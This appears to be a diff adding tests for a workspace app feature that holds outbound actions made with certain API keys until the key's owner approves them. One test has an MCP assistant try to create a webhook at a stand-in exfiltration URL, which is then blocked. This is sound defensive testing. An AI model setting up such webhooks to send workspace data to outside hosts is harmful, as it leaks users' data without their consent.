@@ -1,0 +1,185 @@
+import assert from 'node:assert/strict'
+import { randomUUID } from 'node:crypto'
+import { after, before, beforeEach, test } from 'node:test'
+import { z } from 'zod'
+import { listApprovals } from '../../approvals/approvals.ts'
+import { operation, type Module } from '../../core/operation.ts'
+import { Refusal } from '../../core/refusal.ts'
+import { revokeKey } from '../../keys/issue.ts'
+import { assistantOf } from '../../mcp/testing.ts'
+import { callTool, type ToolMessage } from '../../mcp/tools.ts'
+import { modules } from '../../modules/index.ts'
+import { label } from '../../modules/labels/access.ts'
+import { Browser, givePasswords } from '../../testing/browser.ts'
+import { dayLong } from '../../testing/harness.ts'
+import { serveWorkspace, type ServedWorkspace } from '../../testing/served.ts'
+
+const sent: string[] = []
+const letters: Module = {
+  name: 'letters',
+  about: 'Sends letters.',
+  operations: [
+    operation({
+      name: 'send_letter',
+      kind: 'write',
+      rest: 'POST /api/letters',
+      about: 'Send a letter to somebody outside',
+      outbound: ({ to }) => to !== 'me',
+      on: { label: label.see.maybe },
+      input: { to: z.string(), text: z.string(), turn: z.int().optional() },
+      dryRun: true,
+      once: ['secret'],
+      output: z.strictObject({ to: z.string(), secret: z.string(), by: z.string() }),
+      async handle({ to, text }, ctx) {
+        if (to === 'unwilling') throw new Refusal('provider_error', 'It never arrives.')
+        if (!ctx.dryRun) sent.push(`${to}: ${text}`)
+        await ctx.add('labels', { name: `sent to ${to} ${randomUUID()}`, color: '#000000' })
+        return { to, secret: 'shown once', by: ctx.actor.key?.name ?? 'nobody' }
+      },
+    }),
+    operation({ name: 'send_many_letters', kind: 'write', rest: 'POST /api/letters/many', about: 'Send letters', input: {}, output: z.unknown(), handle: async (_, ctx) => ctx.call('send_letter', { to: 'nested', text: 'hello' }) }),
+    operation({ name: 'export_letters', kind: 'read', rest: 'GET /api/letters/export', about: 'Export letters', outbound: true, output: z.strictObject({ letters: z.int() }), handle: async () => ({ letters: 7 }) }),
+  ],
+}
+
+let served: ServedWorkspace
+let ann: Browser
+let bob: Browser
+let held: { id: string; key: string }
+before(async () => {
+  served = await serveWorkspace({ modules: [...modules, letters] })
+  await givePasswords(served, served.ann, served.bob)
+  ann = await new Browser(served).signIn('ann@acme.test')
+  bob = await new Browser(served).signIn('bob@acme.test')
+})
+beforeEach(async () => {
+  held = await served.keyFor(served.bob, { name: 'helper', holdOutbound: true })
+  sent.length = 0
+})
+after(() => served.close())
+
+const send = (body: object, headers: Record<string, string> = {}) => served.ask('POST', '/api/letters', { key: held.key, body: { text: 'hello', ...body }, headers })
+const release = (id: string, who = bob) => who.post(`/web/approvals/${id}/release`)
+const labels = () => served.app.store.raw.read.prepare("SELECT count(*) FROM labels WHERE name LIKE 'sent to%'").pluck().get() as number
+
+test('what such a key sends waits, and is made once its owner releases it, in the name of the key', async () => {
+  const before = labels()
+  const asked = await send({ to: 'eve' })
+  assert.deepEqual([asked.status, asked.json.code], [409, 'approval_required'])
+  assert.match(asked.json.message, /"helper" that waits until Bob releases it/)
+  const id = asked.json.approval_id as string
+  const [row] = (await bob.get('/web/approvals')).json.items
+  assert.deepEqual([row.id, row.state, row.tool, row.arguments, row.key.name, row.asked_via], [id, 'pending', 'send_letter', { to: 'eve', text: 'hello' }, 'helper', 'api'])
+  assert.deepEqual([sent, labels()], [[], before])
+  const got = await release(id)
+  assert.deepEqual([got.status, got.json.state, got.json.result], [200, 'released', { to: 'eve', secret: 'shown once', by: 'helper' }])
+  assert.deepEqual([sent, labels()], [['eve: hello'], before + 1])
+  const calls = served.app.store.raw.read.prepare("SELECT tool, status, error_code, transport, key_id FROM calls WHERE tool IN ('send_letter', 'release_approval') ORDER BY seq DESC LIMIT 3").all() as Record<string, unknown>[]
+  assert.deepEqual(calls.map(one => [one.tool, one.status, one.error_code, one.transport, one.key_id]), [
+    ['release_approval', 'ok', null, 'web', null],
+    ['send_letter', 'ok', null, 'web', held.id],
+    ['send_letter', 'error', 'approval_required', 'rest', held.id],
+  ])
+  assert.deepEqual((await bob.get('/web/approvals?pending=false')).json.items[0].result, { to: 'eve', by: 'helper' }, 'without what is shown once')
+})
+
+test('it is made once, however often it is released at the same time', async () => {
+  const { json } = await send({ to: 'eve' })
+  const got = await Promise.all(Array.from({ length: 8 }, () => release(json.approval_id)))
+  assert.deepEqual(got.map(one => one.status).sort(), [200, 409, 409, 409, 409, 409, 409, 409])
+  assert.deepEqual(sent, ['eve: hello'])
+  assert.equal(served.app.store.raw.read.prepare('SELECT count(*) FROM calls WHERE key_id = ? AND tool = ? AND status = ?').pluck().get(held.id, 'send_letter', 'ok'), 1)
+})
+
+test('only the owner of the key decides, in a browser, and never with a key', async () => {
+  const { json } = await send({ to: 'eve' })
+  const path = `/web/approvals/${json.approval_id}`
+  for (const one of ['release', 'deny']) {
+    assert.equal((await ann.post(`${path}/${one}`)).status, 404, 'an administrator')
+    assert.equal((await served.ask('POST', `${path}/${one}`, { key: held.key, body: {}, headers: { origin: served.app.baseUrl } })).status, 401)
+  }
+  assert.deepEqual((await ann.get('/web/approvals')).json.items, [])
+  assert.equal((await bob.post(`${path}/deny`)).json.state, 'denied')
+  assert.equal((await release(json.approval_id)).status, 409)
+  assert.deepEqual(sent, [])
+})
+
+test('the same call again is the same wait; with an idempotency key it brings what came of it', async () => {
+  const first = await send({ to: 'eve' })
+  assert.equal((await send({ to: 'eve' })).json.approval_id, first.json.approval_id)
+  assert.notEqual((await send({ to: 'dan' })).json.approval_id, first.json.approval_id)
+  const keyed = (name: string, to = 'eve') => send({ to }, { 'idempotency-key': name })
+  const one = await keyed('one')
+  assert.notEqual(one.json.approval_id, first.json.approval_id)
+  assert.equal((await keyed('one')).json.approval_id, one.json.approval_id)
+  assert.equal((await keyed('one', 'dan')).json.code, 'idempotency_conflict')
+  await release(one.json.approval_id)
+  for (const days of [0, 2]) {
+    served.clock.pass(days * dayLong)
+    const after = await keyed('one')
+    assert.deepEqual([after.status, after.json.to, after.json.secret, after.headers.get('idempotency-replayed')], [201, 'eve', undefined, 'true'].with(0, after.status))
+  }
+  assert.equal(sent.length, 1)
+  const two = await keyed('two')
+  await bob.signIn('bob@acme.test')
+  await ann.signIn('ann@acme.test')
+  await bob.post(`/web/approvals/${two.json.approval_id}/deny`)
+  assert.deepEqual([(await keyed('two')).status, (await keyed('two')).json.approval_id], [403, two.json.approval_id])
+})
+
+test('what is wrong with a call is said at once, and what goes nowhere is not held', async () => {
+  assert.equal((await send({ to: 'eve', label_id: 'lbl_00000000000000000000000000' })).status, 404)
+  assert.equal((await send({ to: {} })).status, 400)
+  assert.equal((await send({ to: 'eve', text: `see ${served.bearer}` })).json.code, 'live_key_in_content')
+  assert.equal((await send({ to: 'eve', dry_run: true })).status, 200)
+  assert.equal((await send({ to: 'me' })).status, 200)
+  const { key } = await served.keyFor(served.bob)
+  assert.equal((await served.ask('POST', '/api/letters', { key, body: { to: 'eve', text: 'hello' } })).status, 200, 'another key')
+  assert.equal((await served.ask('GET', '/api/labels', { key: held.key })).status, 200)
+  assert.equal((await bob.post('/web/call/send_letter', { to: 'eve', text: 'hello' })).status, 200, 'the person')
+})
+
+test('an operation that sends by way of another one waits as a whole, and so does what reads to send', async () => {
+  const nested = await served.ask('POST', '/api/letters/many', { key: held.key, body: {} })
+  assert.deepEqual([nested.status, nested.json.code], [409, 'approval_required'])
+  assert.equal((await release(nested.json.approval_id)).json.result.to, 'nested')
+  const read = await served.ask('GET', '/api/letters/export', { key: held.key })
+  assert.equal(read.json.code, 'approval_required')
+  assert.deepEqual((await release(read.json.approval_id)).json.result, { letters: 7 })
+  assert.equal((await release(read.json.approval_id)).status, 409)
+})
+
+test('a call that fails when it is released has not happened, and still waits', async () => {
+  const { json } = await send({ to: 'unwilling' })
+  assert.equal((await release(json.approval_id)).status, 502)
+  assert.equal((await bob.get('/web/approvals')).json.items[0].state, 'pending')
+})
+
+test('a call is released no more after seven days, nor once its key has ended', async () => {
+  const old = await send({ to: 'eve' })
+  served.clock.pass(7 * dayLong)
+  await bob.signIn('bob@acme.test')
+  assert.deepEqual((await release(old.json.approval_id)).json.code, 'conflict')
+  assert.deepEqual((await bob.get('/web/approvals')).json.items.filter((one: { id: string }) => one.id === old.json.approval_id), [])
+  assert.equal((await bob.get('/web/approvals?pending=false')).json.items.find((one: { id: string }) => one.id === old.json.approval_id).state, 'expired')
+  const fresh = await send({ to: 'eve' })
+  assert.notEqual(fresh.json.approval_id, old.json.approval_id)
+  await revokeKey(served.app.store, served.clock, served.dataDir, { key: held.id })
+  assert.match((await release(fresh.json.approval_id)).json.message, /works no more/)
+  assert.equal((await bob.post(`/web/approvals/${fresh.json.approval_id}/deny`)).status, 200)
+  served.clock.pass(40 * dayLong)
+  held = await served.keyFor(served.bob, { name: 'helper', holdOutbound: true })
+  await send({ to: 'eve' })
+  const left = await listApprovals(served.app.store, served.clock.now(), { pending: false, limit: 100 })
+  assert.equal(left.length, 1, 'what is long over is forgotten')
+})
+
+test('an assistant over MCP is told what it waits for, and a webhook waits, too, before its address is looked up', async () => {
+  const key = (await served.app.keys.authenticate(`Bearer ${held.key}`, 'mcp', { ip: '' })).key
+  const result = await callTool(served.app, assistantOf(served, served.bob, { key }), { name: 'create_webhook', arguments: { url: 'https://exfiltrate.example/secret', events: ['task.*'] } }, {} as ToolMessage)
+  const { code, approval_id } = (result as { structuredContent: Record<string, string> }).structuredContent
+  assert.equal(code, 'approval_required')
+  await bob.signIn('bob@acme.test')
+  const got = await release(approval_id!)
+  assert.equal(got.json.code, 'blocked_address', got.text)
+})
